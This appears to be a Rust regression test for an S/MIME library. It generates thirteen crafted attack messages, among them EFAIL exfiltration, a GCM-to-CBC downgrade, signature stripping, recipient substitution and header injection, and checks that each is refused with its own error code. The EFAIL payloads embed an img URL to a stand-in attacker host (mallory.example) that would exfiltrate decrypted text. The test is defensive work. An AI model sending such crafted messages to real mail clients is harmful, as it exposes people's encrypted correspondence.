//! What attackers make, as files (`tests/fixtures/attacks`): each is refused for its own reason, by a released version for ever.
//!
//! `SEALFAX_MAKE_ATTACKS=1 cargo test -p sealfax-smime attack_files` makes those that are missing, from OpenSSL's fixtures and our
//! own seals; what is there is left as it is.

use super::people::*;
use crate::path::Fields;
use crate::*;
use std::path::PathBuf;
use zeroize::Zeroizing;

/// File, what was done, and the code under which it is refused.
const ATTACKS: [(&str, &str, &str); 13] = [
    ("efail-direct", "the sealed object between two halves of an HTML attribute, in multipart/mixed", "OPEN-012"),
    ("efail-cbc-gadget", "blocks of a CBC text moved so that chosen text appears", "OPEN-016"),
    (
        "gcm-as-cbc",
        "AuthEnvelopedData rewritten as EnvelopedData under AES-CBC, to make its card an oracle",
        "OPEN-016",
    ),
    ("gcm-tag-cut", "the tag of AES-GCM shortened to four octets", "OPEN-014"),
    ("recipient-substitution", "the recipient's name in the envelope replaced by another's", "OPEN-015"),
    ("surreptitious-forwarding", "what Hanako signed for Yuki, sealed anew for Ichiro", "OPEN-030"),
    ("signature-stripped", "the signature taken off, the content sealed anew", "OPEN-020"),
    ("signer-stripped", "SignedData without any SignerInfo", "OPEN-021"),
    ("signer-foreign", "signed by Mallory, said to be from Hanako", "OPEN-023"),
    ("content-replaced", "another content beside Hanako's signature", "OPEN-027"),
    ("digest-downgrade", "signed with SHA-1", "OPEN-026"),
    ("header-injection", "a second Content-Type, which another reader would take", "OPEN-011"),
    ("no-binding", "signed by Hanako for nobody in particular", "OPEN-031"),
];

fn folder() -> PathBuf {
    PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/attacks"))
}

fn cms_of(mail: &[u8]) -> Vec<u8> {
    ber::definite(mime::Entity::parse(mail).unwrap().decoded().unwrap()).unwrap()
}

/// Anyone can seal anything for anyone.
fn envelope(content: &[u8], recipient: &Recipient) -> Vec<u8> {
    mail(&mime::pkcs7_mime("authEnveloped-data", &enveloped(content, std::slice::from_ref(recipient))))
}

fn replaced(octets: &[u8], from: &[u8], to: &[u8]) -> Vec<u8> {
    let at = octets.windows(from.len()).position(|window| window == from).expect("it is there");
    [&octets[..at], to, &octets[at + from.len()..]].concat()
}

/// What stands inside the envelope of a mail for `key`.
async fn inside(mail: &[u8], key: &SoftwareKey) -> Zeroizing<Vec<u8>> {
    possession::open_object(&cms_of(mail), key).await.unwrap()
}

async fn make(name: &str) -> Vec<u8> {
    let for_ichiro = seal(CONTENT, &signing(&sender()), &[ichiro()], &mut rng()).await.unwrap().entity;
    let sealed = |cms: &[u8]| mail(&mime::pkcs7_mime("authEnveloped-data", cms));
    match name {
        "efail-direct" => [
            b"From: hanako@a.example\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n\
              <img src=\"http://mallory.example/\r\n--x\r\n"
                .as_slice(),
            &for_ichiro,
            b"\r\n--x\r\nContent-Type: text/html\r\n\r\n\">\r\n--x--\r\n",
        ]
        .concat(),
        "efail-cbc-gadget" => {
            let mut octets = cms_of(fixture!("openssl-cbc.eml"));
            let text = octets.len() - 1600;
            for (number, octet) in octets.iter_mut().skip(text).take(64).enumerate() {
                *octet ^= b"\r\nContent-Type: text/html\r\n\r\n<img src=http://mallory.example/?"[number % 59];
            }
            mail(&mime::pkcs7_mime("enveloped-data", &octets))
        }
        "gcm-as-cbc" => {
            let octets = cms_of(&for_ichiro);
            let kind = [0x06, 0x0b, 0x2a, 0x86, 0x48, 0x86, 0xf7, 0x0d, 0x01, 0x09, 0x10, 0x01, 0x17];
            assert_eq!(octets.windows(kind.len()).position(|window| window == kind).map(|at| at < 8), Some(true));
            let data = asn1::single(&octets, asn1::tag::SEQUENCE).unwrap();
            let mut info = data.reader();
            info.value().unwrap();
            let content = info.value().unwrap().reader().value().unwrap();
            let mut parts = content.reader();
            parts.value().unwrap();
            let recipients = parts.value().unwrap().whole;
            let mut encrypted = parts.value().unwrap().reader();
            let kind = encrypted.value().unwrap().whole;
            encrypted.value().unwrap();
            let text = encrypted.value().unwrap();
            let whole = text.content.len() / 16 * 16;
            let algorithm =
                asn1::algorithm(&algorithm::oid::AES256_CBC, &asn1::octet_string(&text.content[..16]));
            let text = asn1::value(asn1::tag::context(0), &[&text.content[..whole]]);
            let data = asn1::sequence(&[
                asn1::small_integer(0).as_slice(),
                recipients,
                &asn1::sequence(&[kind, &algorithm, &text]),
            ]);
            mail(&mime::pkcs7_mime("enveloped-data", &signed_data::content_info(&algorithm::oid::ID_ENVELOPED_DATA, &data)))
        }
        "gcm-tag-cut" => {
            let octets = cms_of(&for_ichiro);
            sealed(&replaced(&octets, &[0x02, 0x01, 0x10, 0x80], &[0x02, 0x01, 0x04, 0x80]))
        }
        "recipient-substitution" => {
            let octets = cms_of(&for_ichiro);
            let name = |certificate: &'static [u8]| Fields::of(certificate).unwrap().issuer_and_serial();
            sealed(&replaced(&octets, &name(fixture!("recipient.der")), &name(fixture!("second.der"))))
        }
        "surreptitious-forwarding" => {
            let for_yuki = seal(CONTENT, &signing(&sender()), &[yuki()], &mut rng()).await.unwrap().entity;
            envelope(&inside(&for_yuki, &second()).await, &ichiro())
        }
        "signature-stripped" => envelope(CONTENT, &ichiro()),
        "signer-stripped" => {
            let octets = cms_of(&inside(&for_ichiro, &recipient()).await);
            let (_, content) = signed_data::read_content_info(&octets).unwrap();
            let mut parts: Vec<Vec<u8>> =
                content.reader().all(10).unwrap().iter().map(|part| part.whole.to_vec()).collect();
            *parts.last_mut().unwrap() = vec![0x31, 0];
            let empty = signed_data::content_info(&algorithm::oid::ID_SIGNED_DATA, &asn1::sequence(&parts));
            envelope(&mime::pkcs7_mime("signed-data", &empty), &ichiro())
        }
        "signer-foreign" => {
            mail(&seal(CONTENT, &signing(&mallory()), &[ichiro()], &mut rng()).await.unwrap().entity)
        }
        "content-replaced" => {
            let octets = cms_of(&inside(&for_ichiro, &recipient()).await);
            let changed = replaced(&octets, b"The price is 4,200.", b"The price is 1,200.");
            envelope(&mime::pkcs7_mime("signed-data", &changed), &ichiro())
        }
        "digest-downgrade" => fixture!("openssl-sha1.eml").to_vec(),
        "header-injection" => {
            let whole = mail(&for_ichiro);
            replaced(&whole, b"Content-Type: application", b"Content-Type: text/html\r\nContent-Type: application")
        }
        "no-binding" => envelope(&sign_detached(CONTENT, &signing(&sender())).await.unwrap(), &ichiro()),
        other => panic!("nobody knows how to make {other}"),
    }
}

#[tokio::test]
async fn every_attack_file_is_refused_for_its_own_reason() {
    let making = std::env::var_os("SEALFAX_MAKE_ATTACKS").is_some();
    for (name, what, code) in ATTACKS {
        let path = folder().join(format!("{name}.eml"));
        if making && !path.exists() {
            std::fs::create_dir_all(folder()).unwrap();
            std::fs::write(&path, make(name).await).unwrap();
        }
        let octets = std::fs::read(&path).unwrap_or_else(|error| panic!("{}: {error}", path.display()));
        let error = open(&octets).await.map(|_| ()).expect_err(what);
        assert_eq!(error.code(), code, "{name}: {what}: {error}");
    }
    let files = std::fs::read_dir(folder()).unwrap().count();
    assert_eq!(files, ATTACKS.len(), "every file there is listed here");
}
